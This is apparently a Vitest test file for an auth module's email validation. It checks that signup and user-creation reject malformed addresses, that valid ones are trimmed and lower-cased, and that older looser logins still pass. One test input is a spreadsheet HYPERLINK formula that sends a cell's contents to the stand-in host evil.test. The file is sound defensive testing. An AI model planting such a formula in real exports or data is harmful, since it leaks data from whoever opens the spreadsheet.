import { describe, expect, it } from "vitest";
import { createUserBody, loginBody, signupBody } from "./auth.ts";

const formula = '=hyperlink("http://evil.test/?"&f2&"x@x","open")';

describe("email addresses", () => {
  it("refuses at signup and invitation what is no address, a spreadsheet formula included", () => {
    for (const email of [formula, "a@b", "two@@example.com", "x y@example.com", "@example.com", "a@-example.com"]) {
      expect(signupBody.safeParse({ email, password: "secret-pass-4821" }).success, email).toBe(false);
      expect(createUserBody.safeParse({ email }).success, email).toBe(false);
    }
  });

  it("accepts real addresses, trimmed and lower-cased", () => {
    expect(signupBody.parse({ email: " New.Hire+ops@Example.co.uk ", password: "secret-pass-4821" }).email).toBe("new.hire+ops@example.co.uk");
    expect(createUserBody.parse({ email: "requester@demo.procure.test" }).email).toBe("requester@demo.procure.test");
  });

  it("lets an account registered under the earlier, looser check still sign in", () => {
    expect(loginBody.safeParse({ email: "old@intranet", password: "x" }).success).toBe(true);
  });
});
